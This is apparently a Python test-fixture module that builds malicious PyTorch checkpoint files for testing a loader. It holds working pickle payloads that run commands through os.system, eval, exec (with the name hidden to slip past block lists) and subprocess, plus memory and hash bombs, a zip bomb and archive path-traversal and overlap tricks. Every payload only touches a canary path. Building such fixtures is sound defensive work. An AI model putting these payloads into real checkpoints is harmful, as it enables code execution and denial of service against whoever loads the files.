"""Checkpoints as an attacker would make them: to run a command, to fill the memory, to take hours, to write elsewhere.

`KINDS` are functions that return the bytes of such a file. They take the canary: a path that only the attack creates.
"""

import builtins
import io
import os
import pickle
import struct
import subprocess
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from torch import nn

GIB = 2**30


# ---- what carries an attack ------------------------------------------------------------------------------------------
class Call:
    """Pickles as a call: ``Call(os.mkdir, "x")`` makes the directory when it is unpickled."""

    def __init__(self, function: Callable, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments

    def __call__(self):
        """The pickler wants what is called to be callable; so a call may return what is called next."""


def saved(content: object, **how) -> bytes:
    buffer = io.BytesIO()
    torch.save(content, buffer, **how)
    return buffer.getvalue()


def archive(pickled: bytes, numbers: bytes = b"\0" * 64, more: dict[str, bytes] | None = None, how: int = 0) -> bytes:
    """A zip archive as torch.save writes it, around a pickle; `numbers` is the storage "0"."""
    buffer = io.BytesIO()
    entries = {"data.pkl": pickled, "byteorder": b"little", "data/0": numbers, "version": b"3\n", **(more or {})}
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(buffer, "w", how) as file:
        for name, content in entries.items():
            file.writestr(f"archive/{name}", content)
    return buffer.getvalue()


# ---- pickles, written by hand ----------------------------------------------------------------------------------------
def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def number(value: int) -> bytes:
    return b"\x8a\x0a" + value.to_bytes(10, "little", signed=True)


def name(module: str, function: str) -> bytes:
    return f"c{module}\n{function}\n".encode()


def a_tuple(*entries: bytes) -> bytes:
    return b"(" + b"".join(entries) + b"t"


def a_tensor(size: int, stride: int, stated: int = 16) -> bytes:
    """A float32 tensor of `size` numbers over the storage "0", which is said to have `stated` of them."""
    storage = a_tuple(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), number(stated)) + b"Q"
    hooks = name("collections", "OrderedDict") + b")R"
    shape = (a_tuple(number(size)), a_tuple(number(stride)))
    return name("torch._utils", "_rebuild_tensor_v2") + a_tuple(storage, number(0), *shape, b"\x89", hooks) + b"R"


def pickled(*content: bytes) -> bytes:
    """A pickle of the dictionary {"format": 1, "payload": ...}."""
    return b"\x80\x02}(" + text("format") + b"K\x01" + text("payload") + b"".join(content) + b"u."


# ---- run something ---------------------------------------------------------------------------------------------------
def os_system(canary: Path) -> bytes:
    return saved({"format": 1, "payload": Call(os.system, f"touch '{canary}'")})


def builtins_eval(canary: Path) -> bytes:
    return saved({"format": 1, "payload": Call(eval, f"open({str(canary)!r}, 'w')")})


def exec_by_getattr(canary: Path) -> bytes:
    """The name of the function stands in a text, so that a list of forbidden names would not see it."""
    the_exec = Call(getattr, Call(__import__, builtins.__name__), "exec")
    return saved({"format": 1, "payload": Call(the_exec, f"open({str(canary)!r}, 'w')")})


def subprocess_in_the_old_format(canary: Path) -> bytes:
    payload = Call(subprocess.check_call, ["touch", str(canary)])
    return saved({"format": 1, "payload": payload}, _use_new_zipfile_serialization=False)


def bare_pickle(canary: Path) -> bytes:
    return pickle.dumps({"format": 1, "payload": Call(os.mkdir, str(canary))}, protocol=2)


def numpy_objects(canary: Path) -> bytes:
    return saved({"format": 1, "payload": np.array([Call(os.mkdir, str(canary))], dtype=object)})


def whole_module(canary: Path) -> bytes:
    module = nn.Linear(2, 2)
    module.payload = Call(os.mkdir, str(canary))
    return saved(module)


def stack_global(canary: Path) -> bytes:
    """A newer protocol takes the names of functions from the stack."""
    call = b"\x8c\x02os\x8c\x05mkdir\x93" + a_tuple(text(str(canary))) + b"R"
    return archive(pickled(call).replace(b"\x80\x02", b"\x80\x04", 1))


def attributes_of_an_allowed_class(canary: Path) -> bytes:
    """No call, but the object's own methods are replaced: `items` of this dictionary is a text."""
    return archive(pickled(name("collections", "OrderedDict"), b")R}", text("items"), text(str(canary)), b"sb"))


def torch_script(canary: Path) -> bytes:
    """An archive for `torch.jit.load`, which is a program."""
    code = b"def forward(self):\n  return None\n"
    return archive(pickled(b"N"), more={"constants.pkl": b"\x80\x02).", "code/__torch__.py": code})


# ---- fill the memory, or take hours ----------------------------------------------------------------------------------
def bytearray_bomb(canary: Path) -> bytes:
    return archive(pickled(name("builtins", "bytearray"), a_tuple(number(8 * GIB)), b"R"))


def zip_bomb(canary: Path) -> bytes:
    numbers = bytes(GIB // 16)
    return archive(pickled(a_tensor(GIB // 64, 1, stated=GIB // 64)), numbers, how=zipfile.ZIP_DEFLATED)


def tensor_larger_than_its_storage(canary: Path) -> bytes:
    return archive(pickled(a_tensor(size=GIB, stride=1)))


def storage_larger_than_the_file(canary: Path) -> bytes:
    return archive(pickled(a_tensor(size=16, stride=1, stated=GIB)))


def repeated_number(canary: Path) -> bytes:
    """No memory at first, but as much as there is when it is copied."""
    return archive(pickled(a_tensor(size=1024 * GIB, stride=0)))


def reference_bomb(canary: Path) -> bytes:
    """Each list holds the one before it twice: 60 lists, 2**60 entries for whoever walks through."""
    levels = b"".join(b"](h\x00h\x00eq\x00" for _ in range(60))
    return archive(pickled(a_tuple(b"]q\x00", levels)))


def hash_bomb(canary: Path) -> bytes:
    """As before, of tuples, the last one the key of a dictionary: its hash takes 2**60 steps."""
    levels = b"".join(b"h\x00h\x00\x86q\x00" for _ in range(60))
    return archive(pickled(a_tuple(b")q\x00", levels, b"}h\x00K\x01s")))


def list_in_itself(canary: Path) -> bytes:
    return archive(pickled(b"]q\x00h\x00a"))


def deep_nesting(canary: Path) -> bytes:
    return archive(pickled(b"]" * 100_000, b"a" * 99_999))


# ---- an archive that is not what it seems ----------------------------------------------------------------------------
def path_out_of_the_archive(canary: Path) -> bytes:
    return archive(pickled(b"N"), more={f"../../../../..{canary}": b"written"})


def absolute_path(canary: Path) -> bytes:
    return archive(pickled(b"N")).replace(b"archive/version", b"/rchive/version")


def overlapping_entries(canary: Path) -> bytes:
    """The directory names the same bytes twice; with many names a small file becomes a large one."""
    data = archive(pickled(b"N"), more={"data/1": b"\0" * 64})
    start = data.rindex(b"PK\1\2", 0, data.rindex(b"data/1"))
    offset = struct.pack("<L", data.index(b"PK\3\4", data.index(b"data.pkl")))
    return data[: start + 42] + offset + data[start + 46 :]


def two_archives(canary: Path) -> bytes:
    """One program reads the first, another one the second."""
    return archive(pickled(b"N")) + os_system(canary)


def same_name_twice(canary: Path) -> bytes:
    return archive(pickled(b"N"), more={"DATA.PKL": pickled(b"]")})


KINDS: dict[str, Callable[[Path], bytes]] = {
    function.__name__.replace("_", " "): function
    for function in (
        os_system, builtins_eval, exec_by_getattr, subprocess_in_the_old_format, bare_pickle, numpy_objects,
        whole_module, stack_global, attributes_of_an_allowed_class, torch_script, bytearray_bomb, zip_bomb,
        tensor_larger_than_its_storage, storage_larger_than_the_file, repeated_number, reference_bomb, hash_bomb,
        list_in_itself, deep_nesting, path_out_of_the_archive, absolute_path, overlapping_entries, two_archives,
        same_name_twice,
    )
}  # fmt: skip
